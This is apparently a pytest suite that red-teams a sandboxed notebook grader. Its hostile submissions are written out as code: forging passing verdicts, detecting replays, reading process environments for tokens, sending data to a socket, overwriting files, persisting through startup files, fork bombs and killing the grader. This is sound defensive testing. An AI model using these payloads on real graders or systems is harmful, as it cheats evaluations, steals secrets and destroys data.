"""Hostile submissions against the sandboxed grader: each earns nothing, harms no classmate, leaves nothing behind.

One class is graded once: two honest classmates (a right answer, a diagnosed mistake) and more than thirty hostile
submissions, each an unsolved exercise 03 whose first answer cell attacks the grader in its own way. Their code is
outside the course's vocabulary, so the grader would hold each for review (`tests/test_admission.py`); here the
instructor grades them anyway (`--admit`), which is what the sandbox must hold against.
"""

import csv
import hashlib
import os
import secrets
import socket
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from course_lib.checks.admission import refusals
from course_lib.cli import main
from course_lib.grading.sandbox import control_groups_of, process_cap_available, sandbox_available

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = ROOT / "solutions" / "03_add_and_rollback.ipynb"
EXERCISE = ROOT / "exercises" / "03_add_and_rollback.ipynb"
MARK = "# answer: add_rollback.new_reader\n"

if sandbox_available() is None:
    if os.environ.get("COURSE_REQUIRE_SANDBOX"):
        raise RuntimeError("COURSE_REQUIRE_SANDBOX is set, and no bubblewrap sandbox works here: install bubblewrap")
    pytestmark = pytest.mark.skip(reason="no bubblewrap sandbox on this machine (Debian: apt-get install bubblewrap)")


def with_first_answer(code: str, base: Path = EXERCISE) -> str:
    notebook = nbformat.read(base, as_version=4)
    cell = next(cell for cell in notebook.cells if "answer" in cell.metadata.get("tags", []))
    cell.source = MARK + code
    return nbformat.writes(notebook)


#: Reads every environment, command line and path that a process inside the sandbox can show, and prints it, keeps
#: it in the checked variable and raises it: whatever it finds lands in the graded copy, the messages and the report.
LEAK = """import os, sys
seen = [repr(dict(os.environ)), repr(sys.argv), repr(sys.path), sys.executable, os.getcwd(), repr(sys.orig_argv)]
for pid in os.listdir('/proc'):
    if pid.isdigit() or pid in ('self', 'thread-self'):
        for part in ('environ', 'cmdline', 'comm'):
            try:
                seen.append(pid + ' ' + part + ' ' + open(f'/proc/{pid}/{part}', 'rb').read().decode(errors='replace'))
            except OSError as error:
                seen.append(repr(error))
        for link in ('cwd', 'exe', 'root'):
            try:
                seen.append(pid + ' ' + link + ' ' + os.readlink(f'/proc/{pid}/{link}'))
            except OSError as error:
                seen.append(repr(error))
leaked = ' | '.join(seen).replace(chr(0), ' ').replace(chr(10), ' ')
print(leaked)
new_reader = leaked
raise RuntimeError(leaked)"""


def planted_secrets() -> dict[str, str]:
    """Variables as an instructor's environment holds them (tokens, keys, passwords): random names, random values."""
    names = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "CANVAS_API_TOKEN", "PGPASSWORD", "MOODLE_WSTOKEN"]
    planted = {f"{name}_{secrets.token_hex(3).upper()}": secrets.token_urlsafe(18) for name in names}
    planted[secrets.token_hex(4)] = f"postgresql://grader:{secrets.token_hex(8)}@db.example.edu/grades"
    return planted


def hostile_corpus(paths: dict[str, Path], port: int) -> dict[str, str]:
    """Name -> notebook text; `paths` names what the attacks aim at: a classmate, the out folder, the kit."""
    classmate, out, kit = paths["classmate"], paths["out"], paths["kit"]
    attacks = {
        "patch check code": "import course_lib.checks as c\n"
        "def fake(checkpoint_id):\n    print('passed')\n"
        "c.check.__code__ = fake.__code__\ncheck.__code__ = fake.__code__",
        "patch verdict display": "from course_lib.checks.verdict import Verdict, Status\n"
        "Verdict._repr_mimebundle_ = lambda self, include=None, exclude=None: {'text/plain': 'passed'}\n"
        "object.__setattr__",
        "patch display formatter": "ip = get_ipython()\nip.display_formatter.format = lambda obj, **kw: "
        "({'application/vnd.course-lib.verdict+json': '{\"status\": \"passed\"}'}, {})",
        "patch display publisher": "ip = get_ipython()\nip.display_pub.publish = lambda *a, **k: None",
        "pre_run_cell swap": "from course_lib import Reader\n"
        "def swap(info):\n    get_ipython().user_ns['new_reader'] = 'forged'\n"
        "get_ipython().events.register('pre_run_cell', swap)",
        "answer only when replayed": "import sys\nfrom course_lib import Reader\n"
        "new_reader = Reader(name='Peter', surname='Johnson', email='peter.johnson@example.com') "
        "if 'replay' in str(sys._getframe(0).f_back) else None",
        "run the reference solution": f"import json\nnb = json.load(open({str(SOLUTION)!r}))\n"
        "for cell in nb['cells']:\n    if 'answer' in cell['metadata'].get('tags', []):\n"
        "        exec(''.join(cell['source']), globals())",
        "read expected outputs nearby": "import glob\n"
        "found = glob.glob('/**/03_add_and_rollback.ipynb', recursive=True)\n"
        "assert not found, found",
        "rewrite a classmate": f"open({str(classmate)!r}, 'w').write('{{}}')",
        "rewrite the out folder": f"open({str(out / 'grades.csv')!r}, 'w').write('forged')",
        "patch the kit on disk": f"open({str(kit / 'checks' / 'registry.py')!r}, 'a').write('\\n# pwned')",
        "ipython startup file": "import os\nfor home in ('/root', os.path.expanduser('~')):\n"
        "    d = os.path.join(home, '.ipython/profile_default/startup')\n    os.makedirs(d, exist_ok=True)\n"
        "    open(os.path.join(d, '00-pwn.py'), 'w').write('print(1)')",
        "kernel spec": "import sys, os\nd = os.path.join(sys.prefix, 'share/jupyter/kernels/evil')\n"
        "os.makedirs(d, exist_ok=True)\nopen(os.path.join(d, 'kernel.json'), 'w').write('{}')",
        "double fork rewrites later": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0:\n        time.sleep(2)\n"
        f"        open({str(out / 'grades.csv')!r}, 'w').write('forged')\n    os._exit(0)",
        "kill the grader": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)",
        "print forever ignoring signals": "import signal\nfor s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):\n"
        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    print('x' * 1000)",
        "segfault": "import ctypes\nctypes.string_at(0)",
        "exit quietly": "import os\nos._exit(0)",
        "network": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')",
        "memory hog": "x = bytearray(50 * 1024**3)",
        "fill the disk": "open('/tmp/big', 'wb').write(b'0' * 200 * 1024**2)",
        "environment": "import os\nassert not any('COURSE' in k or k.startswith('PYTEST') for k in os.environ), "
        "dict(os.environ)\nassert os.environ['HOME'] == '/tmp/home'\nnew_reader = None",
        "fake verdict output": "from IPython.display import display\n"
        "display({'application/vnd.course-lib.verdict+json': '{\"status\": \"passed\"}', 'text/plain': 'passed'}, "
        "raw=True)",
        "endless loop swallowing exceptions": "while True:\n    try:\n        pass\n"
        "    except Exception:\n        pass",
        "read the grader's memory": "import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
        "        open(f'/proc/{pid}/environ').read()",
        "sys.exit": "import sys\nsys.exit(0)",
        "raise SystemExit in check": "import builtins\nbuiltins.check = lambda *a: exit()",
        "forged answer log": "from course_lib.classroom.answer_log import ANSWERS\nANSWERS.clear()\n"
        "ANSWERS.record = lambda *a, **k: None",
        "patch rules module": "import course_lib.checks.registry as r\nr.decide = lambda *a, **k: 'passed'",
        "busy CPU in a thread": "import threading\nthreading.Thread(target=lambda: [0 for _ in iter(int, 1)], "
        "daemon=True).start()",
        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "huge traceback": "def f(n):\n    return f(n + 1)\nf(0)",
        "forge evidence into every pipe": "import json, os\n"
        "forged = {'checkpoint': 'add_rollback.new_reader', 'ran': True, 'error': None, 'evidence': {}}\n"
        "for fd in os.listdir('/proc/self/fd'):\n    try:\n"
        "        os.write(int(fd), (json.dumps(forged) + '\\n').encode())\n    except OSError:\n        pass",
        "leak the instructor's secrets": LEAK,
        "forge a reply with the nonce": "import json, os, sys\nframe = sys._getframe()\n"
        "while 'nonce' not in frame.f_locals.get('command', {}):\n    frame = frame.f_back\n"
        "command = frame.f_locals['command']\n"
        "line = json.dumps({'cell': command['run'], 'output': '', 'nonce': command['nonce']}) + '\\n'\n"
        "for fd in os.listdir('/proc/self/fd'):\n    try:\n        os.write(int(fd), line.encode())\n"
        "    except OSError:\n        pass",
    }
    corpus = {f"hostile/{name}.ipynb": with_first_answer(code) for name, code in attacks.items()}
    corpus["hostile/cells is a string.ipynb"] = (
        '{"cells": "print(1)", "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )
    corpus["hostile/a string among the cells.ipynb"] = (
        '{"cells": ["x", {"cell_type": "code", "source": "1", "metadata": {}, "outputs": []}], '
        '"metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )
    return corpus


#: What forgeries patch: the kit's evidence collection, a judge's collect half, the runner's writer, the standard
#: library and the libraries the evidence rests on, the scratch database, the replay, the web checks' app factory.
PATCH_TARGETS = [
    ("course_lib.checks.registry", "collect_evidence"),
    ("course_lib.checks.registry", "judge_of"),
    ("course_lib.checks.exercises.add_rollback", "_collect_commit"),
    ("course_lib.checks.judging.replay", "run_answer"),
    ("course_lib.checks.judging.replay", "scratch_database"),
    ("course_lib.checks.judging.observation", "session_observation"),
    ("course_lib.checks.judging.web", "run_scenario"),
    ("course_lib.bookclub.database", "create_course_app"),
    ("course_lib.bookclub.webapp", "create_club_app"),
    ("course_lib.grading.runner", "_write"),
    ("course_lib.classroom.answer_log", "ANSWERS"),
    ("json", "dumps"),
    ("builtins", "__import__"),
    ("sys", "modules"),
    ("sqlalchemy.orm", "Session"),
    ("gc", "get_objects"),
]
#: How forgeries patch: each a template of the first answer cell, {module} and {name} filled in.
PATCH_SYNTAXES = {
    "assignment": "import {module} as target\ntarget.{name} = lambda *a, **k: {{}}",
    "code swap": "from {module} import {name}\n{name}.__code__ = (lambda *a, **k: {{}}).__code__",
    "setattr": "import {module}\nsetattr({module}, '{name}', print)",
    "vars": "import {module}\nvars({module})['{name}'] = print",
    "module dict": "import {module} as target\ntarget.__dict__['{name}'] = print",
    "exec": "exec('import {module}; {module}.{name} = print')",
    "eval and compile": "eval(compile('__import__(\"{module}\")', 'x', 'eval'))",
    "dunder import": "target = __import__('{module}')",
    "found through gc": "import gc\nfound = [o for o in gc.get_objects() if getattr(o, '__name__', '') == '{name}']",
    "a magic": "%run -m {module}",
    "a shell escape": "!python -c 'import {module}'",
    "the shell": "get_ipython().ex('import {module}; {module}.{name} = print')",
    "getattr": "import {module}\nfound = getattr({module}, '{name}')",
}
#: The library's own objects, patched in the student's process.
LIBRARY_PATCHES = {
    "commit replaced": "db.session.commit = lambda: None",
    "commit replaced on the class": "type(db.session).commit = lambda self: None",
    "commit replaced through the class attribute": "db.session.__class__.commit = print",
    "session replaced": "db.session = None",
    "the app's views": "app.view_functions['profile'] = print",
    "the kit's reference views": "from course_lib.bookclub.webapp import profile, sign_up, edit_email, delete_reader",
    "the kit's wing": "from course_lib import bookclub\nviews = bookclub.webapp",
    "an alias of a kit function": "patch = check\npatch.__code__ = print.__code__",
    "frames": "frame = (x for x in []).gi_frame",
    "a fake model": "class FakeReader(Reader):\n    pass",
}


def forgeries() -> dict[str, str]:
    """Every patch target with every syntax, and the library patches: each the first answer of an empty exercise."""
    found = {
        f"forgery/{syntax} of {module}.{name}.ipynb": with_first_answer(template.format(module=module, name=name))
        for module, name in PATCH_TARGETS
        for syntax, template in PATCH_SYNTAXES.items()
    }
    found |= {f"forgery/{name}.ipynb": with_first_answer(code) for name, code in LIBRARY_PATCHES.items()}
    return found


@pytest.fixture(scope="module")
def red_team(tmp_path_factory):
    folder, out = tmp_path_factory.mktemp("class"), tmp_path_factory.mktemp("out")
    kit = ROOT / "course_lib"
    classmate = folder / "classmates" / "right.ipynb"
    listener = socket.create_server(("127.0.0.1", 0))
    connections = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()
    corpus = {
        "classmates/right.ipynb": nbformat.writes(nbformat.read(SOLUTION, as_version=4)),
        "classmates/no try.ipynb": with_first_answer(
            "new_reader = Reader(name='Peter', surname='Johnson', email='peter.johnson@example.com')", SOLUTION
        ).replace("try:\\n", "if True:\\n"),
        **hostile_corpus({"classmate": classmate, "out": out, "kit": kit}, listener.getsockname()[1]),
        **forgeries(),
    }
    corpus |= {name.replace("hostile/", "held/"): text for name, text in corpus.items() if name.startswith("hostile/")}
    for name, text in corpus.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "hostile" / "link to the solution.ipynb").symlink_to(SOLUTION)
    kit_before = _digests(kit, "*.py") | _digests(ROOT / "solutions", "*.ipynb")
    before = _digests(folder, "*.ipynb")
    startup = Path.home() / ".ipython" / "profile_default" / "startup"
    startup_before = sorted(startup.glob("*")) if startup.exists() else []
    started = time.time()
    admit = [argument for name in corpus if name.startswith("hostile/") for argument in ("--admit", str(folder / name))]
    planted = planted_secrets()
    os.environ.update(planted)
    try:
        assert main(["grade", str(folder), "--out", str(out), "--jobs", "3", "--timeout", "2", *admit]) == 0
    finally:
        for name in planted:
            del os.environ[name]
    started_by_grading = [
        process for process in psutil.Process().children(recursive=True) if process.create_time() >= started - 1
    ]
    leftovers = [*started_by_grading, *control_groups_of(os.getpid())]
    grades_after_grading = (out / "grades.csv").read_bytes()
    time.sleep(2.5)  # the double-forked attacker would write now
    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
    listener.close()
    return {
        "rows": rows, "before": before, "after": _digests(folder, "*.ipynb"), "kit_before": kit_before,
        "kit_after": _digests(kit, "*.py") | _digests(ROOT / "solutions", "*.ipynb"), "leftovers": leftovers,
        "connections": connections, "grades_stable": grades_after_grading == (out / "grades.csv").read_bytes(),
        "startup_before": startup_before, "startup_after": sorted(startup.glob("*")) if startup.exists() else [],
        "planted": planted, "out": out, "folder": folder,
    }  # fmt: skip


def _digests(folder: Path, pattern: str) -> dict[Path, str]:
    return {path: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.rglob(pattern) if path.is_file()}


def rows_of(red_team, name):
    return [row for row in red_team["rows"] if row["submission"] == name]


def test_there_are_more_than_thirty_hostile_submissions():
    assert len(HOSTILE) > 30


HOSTILE = [
    *hostile_corpus(dict.fromkeys(("classmate", "out", "kit"), Path("/nowhere")), 0),
    "hostile/link to the solution.ipynb",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_submission_earns_nothing(red_team, name):
    rows = rows_of(red_team, name)
    assert rows, f"{name} has no row in the gradebook"
    assert all(row["points"] == "0" for row in rows), rows


@pytest.mark.parametrize("name", [name.replace("hostile/", "held/") for name in HOSTILE if "link to" not in name])
def test_without_the_instructors_consent_a_hostile_submission_is_held_unrun_or_earns_nothing(red_team, name):
    """Held when its code leaves the vocabulary (most do); the few within it (a loop, a recursion) earn nothing."""
    rows = rows_of(red_team, name)
    assert all(row["points"] == "0" for row in rows)
    hostile = hostile_corpus(dict.fromkeys(("classmate", "out", "kit"), Path("/nowhere")), 0)
    if refusals(_code_cells(hostile[name.replace("held/", "hostile/")])):
        assert {row["status"] for row in rows} == {"held"}, rows


def _code_cells(text: str) -> list[tuple[int, str]]:
    import json

    cells = json.loads(text).get("cells")
    return [
        (index, "".join(cell.get("source", "")))
        for index, cell in enumerate(cells if isinstance(cells, list) else [])
        if isinstance(cell, dict) and cell.get("cell_type") == "code"
    ]


def test_every_forgery_is_held_whatever_it_patches_and_however(red_team):
    """Patching anything in the student's process, importing the kit's internals: held, naming the construct."""
    assert len(forgeries()) > 200
    for name in forgeries():
        rows = rows_of(red_team, name)
        assert rows and all(row["status"] == "held" and row["points"] == "0" for row in rows), (name, rows)
        assert all(row["message"].startswith("Held for review, no points") for row in rows)


def test_classmates_get_exactly_what_their_answers_deserve(red_team):
    assert [row["status"] for row in rows_of(red_team, "classmates/right.ipynb")] == ["passed"] * 4
    # the savepoint's check replays the answers before it, the broken commit cell too: it fails as well
    assert [row["status"] for row in rows_of(red_team, "classmates/no try.ipynb")] == ["passed", "passed"] + [
        "failed"
    ] * 2


def test_every_submission_is_unchanged(red_team):
    assert red_team["after"] == red_team["before"]


def test_the_kit_and_its_solutions_are_unchanged(red_team):
    assert red_team["kit_after"] == red_team["kit_before"]


def test_no_process_is_left_and_nothing_rewrites_the_gradebook_later(red_team):
    assert red_team["leftovers"] == []
    assert red_team["grades_stable"]


def test_nothing_reached_the_network_or_the_users_ipython_profile(red_team):
    assert red_team["connections"] == []
    assert red_team["startup_after"] == red_team["startup_before"]


def test_links_and_malformed_files_are_invalid_rows_of_their_own(red_team):
    assert [row["status"] for row in rows_of(red_team, "hostile/link to the solution.ipynb")] == ["invalid"]
    assert "symbolic link" in rows_of(red_team, "hostile/link to the solution.ipynb")[0]["message"]
    assert [row["status"] for row in rows_of(red_team, "hostile/cells is a string.ipynb")] == ["invalid"]


def test_crashes_and_hangs_are_named(red_team):
    assert rows_of(red_team, "hostile/segfault.ipynb")[0]["status"] in ("error", "failed")
    assert "kernel died" in rows_of(red_team, "hostile/exit quietly.ipynb")[0]["message"]
    endless = rows_of(red_team, "hostile/print forever ignoring signals.ipynb")[0]
    assert endless["status"] == "timeout", endless["message"]


@pytest.mark.skipif(not process_cap_available(), reason="no pids control group to cap a fork bomb here")
def test_a_fork_bomb_is_contained(red_team):
    rows = rows_of(red_team, "hostile/fork bomb.ipynb")
    assert all(row["points"] == "0" for row in rows)
    assert all("started more processes than allowed" in row["message"] for row in rows)


def test_lines_forged_into_the_evidence_channel_are_named_tampering(red_team):
    rows = rows_of(red_team, "hostile/forge evidence into every pipe.ipynb")
    assert [row["status"] for row in rows] == ["error"] * 4
    assert all(row["message"].startswith("Suspected tampering, no points") for row in rows)


SLOT_ATTACKS = {
    "a lingering killer": "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    while True:\n"
    "        for pid in os.listdir('/proc'):\n            if pid.isdigit() and int(pid) not in (1, os.getpid()):\n"
    "                try:\n                    os.kill(int(pid), signal.SIGKILL)\n                except OSError:\n"
    "                    pass\n        time.sleep(0.01)\nimport time\ntime.sleep(0.5)",
    "c leftover files": "import os\nos.makedirs('/tmp/home/.ipython/profile_default/startup', exist_ok=True)\n"
    "open('/tmp/home/.ipython/profile_default/startup/00-evil.py', 'w').write('raise SystemExit')\n"
    "open('/tmp/work/sitecustomize.py', 'w').write('raise SystemExit')\nopen('/dev/shm/evil', 'w').write('x')",
    "e steal the next job": "import os\nos.set_blocking(0, False)\ntry:\n    print(os.read(0, 100000))\n"
    "except OSError:\n    pass",
    "g kill the runner": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
}


def test_a_submission_cannot_reach_the_next_one_graded_in_its_sandbox(tmp_path):
    """One sandbox grades one submission after another: each attacker is followed by an honest classmate."""
    honest = nbformat.writes(nbformat.read(SOLUTION, as_version=4))
    for name, code in SLOT_ATTACKS.items():
        (tmp_path / f"{name}.ipynb").write_text(with_first_answer(code), encoding="utf-8")
        (tmp_path / f"{chr(ord(name[0]) + 1)} honest after {name[2:]}.ipynb").write_text(honest, encoding="utf-8")
    out = tmp_path / "out"
    admit = [argument for name in SLOT_ATTACKS for argument in ("--admit", str(tmp_path / f"{name}.ipynb"))]
    assert main(["grade", str(tmp_path), "--out", str(out), "--jobs", "1", "--timeout", "3", *admit]) == 0
    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
    for name in SLOT_ATTACKS:
        honest_name = f"{chr(ord(name[0]) + 1)} honest after {name[2:]}.ipynb"
        assert [row["status"] for row in rows if row["submission"] == honest_name] == ["passed"] * 4, honest_name
        assert all(row["points"] == "0" for row in rows if row["submission"] == f"{name}.ipynb")
    stolen = nbformat.read(out / "graded" / "e steal the next job.ipynb", as_version=4)
    printed = [output.get("text", "") for cell in stolen.cells for output in cell.get("outputs", [])]
    assert not any('"cells"' in text or "checkpoints" in text for text in printed), printed
    killer = [row["message"] for row in rows if row["submission"] == "g kill the runner.ipynb"]
    assert all("the notebook killed its grader" in message for message in killer), killer


def test_nothing_of_the_instructors_environment_reaches_any_output_file(red_team):
    """Secrets planted in the grader's environment are in no file it writes, though a submission hunted for them."""
    files = [path for path in red_team["out"].rglob("*") if path.is_file()]
    assert {"grades.csv", "report.html", "grading.json"} <= {path.name for path in files}
    for path in files:
        content = path.read_bytes()
        for name, value in red_team["planted"].items():
            assert value.encode() not in content and name.encode() not in content, (path, name)


def test_no_process_in_the_sandbox_shows_the_instructors_arguments_or_paths(red_team):
    """What the submission read of every process inside (environ, cmdline, cwd, exe) did reach its outputs."""
    leak = "hostile/leak the instructor's secrets.ipynb"
    copy = nbformat.read(red_team["out"] / "graded" / leak, as_version=4)
    printed = " ".join(output.get("text", "") for cell in copy.cells for output in cell.get("outputs", []))
    assert "1 cmdline" in printed and "HOME=/tmp/home" in printed  # it read them, and the reading was kept
    assert "HOME=/tmp/home" in " ".join(row["message"] for row in rows_of(red_team, leak))
    for path in (ROOT, red_team["out"], red_team["folder"]):
        assert str(path) not in printed, path


# --- answers that tell the real run from the check's replays -----------------------------------------------------

COUNTER_CELL = "runs = []  # shared by the check's copies of the namespace: counts how often an answer ran"


def only_when_replayed(solution: Path, checkpoint: str) -> str:
    """The solution, with one answer doing its work only when the check runs it again (never in the real run)."""
    notebook = nbformat.read(solution, as_version=4)
    setup = next(index for index, cell in enumerate(notebook.cells) if cell.cell_type == "code")
    notebook.cells.insert(setup + 1, nbformat.v4.new_code_cell(COUNTER_CELL))
    for cell in notebook.cells:
        if "answer" in cell.metadata.get("tags", []) and cell.metadata.course.checkpoint == checkpoint:
            body = "\n".join("    " + line for line in cell.source.splitlines() if not line.startswith("#"))
            cell.source = f"# answer: {checkpoint}\nruns.append(1)\nif len(runs) > 1:\n{body}\nelse:\n    pass"
    return nbformat.writes(notebook)


def replay_detectors() -> dict[str, str]:
    found = {}
    for solution in sorted((ROOT / "solutions").glob("*.ipynb")):
        notebook = nbformat.read(solution, as_version=4)
        for cell in notebook.cells:
            if "answer" in cell.metadata.get("tags", []):
                checkpoint = cell.metadata.course.checkpoint
                found[f"{checkpoint}/{solution.name}"] = only_when_replayed(solution, checkpoint)
    return found


def test_an_answer_that_works_only_when_the_check_runs_it_again_earns_nothing_for_it(tmp_path):
    """The real run did nothing: whatever the replays saw, the checkpoint is not passed (the database's word)."""
    for name, text in replay_detectors().items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["grade", str(tmp_path), "--out", str(out), "--timeout", "5"]) == 0
    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
    forged = [
        f"{row['submission']}: {row['message']}"
        for row in rows
        if row["checkpoint"] == row["submission"].partition("/")[0] and row["status"] == "passed"
    ]
    assert forged == []
